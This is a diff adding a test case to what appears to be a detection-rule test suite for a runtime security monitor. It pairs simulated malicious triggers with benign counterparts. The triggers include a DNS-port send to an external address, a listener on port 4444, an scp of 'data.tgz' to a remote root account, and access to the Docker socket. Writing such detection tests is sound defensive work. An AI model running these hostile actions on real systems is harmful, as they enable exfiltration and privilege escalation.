@@ -111,6 +111,8 @@ export const CASES: RuleCase[] = [
     benign: (s) => { s.run('/usr/bin/wget', ['wget', '--version']); s.run('/usr/bin/ls', ['ls']); } },
   { id: 'ST-C2-008', trigger: (s) => { const fd = s.socket(1); s.sys(1, 'bind', [fd, 0, 16], 0, { addr: { family: 'inet', address: '0.0.0.0', port: 4444 } }); s.sys(1, 'listen', [fd, 1], 0); },
     benign: (s) => { const fd = s.socket(1, 1, 1); s.sys(1, 'listen', [fd, 1], 0); } },
+  { id: 'ST-C2-009', trigger: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '203.0.113.9', port: 53 } }); },
+    benign: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '127.0.0.53', port: 53 } }); } },
   { id: 'ST-LAT-001', trigger: (s) => s.run('/usr/bin/scp', ['scp', 'data.tgz', 'root@198.51.100.3:/tmp/']), benign: (s) => s.run('/usr/bin/scp', ['scp', 'a', 'b']) },
   { id: 'ST-LAT-002', trigger: (s) => s.sys(1, 'socket', [17, 3, 768], -1), benign: (s) => s.sys(1, 'socket', [2, 1, 0], 3) },
   { id: 'ST-ESC-005', trigger: (s) => s.connectUnix(1, '/var/run/docker.sock', -2), benign: (s) => s.connectUnix(1, '/run/dbus/system_bus_socket', -2) },
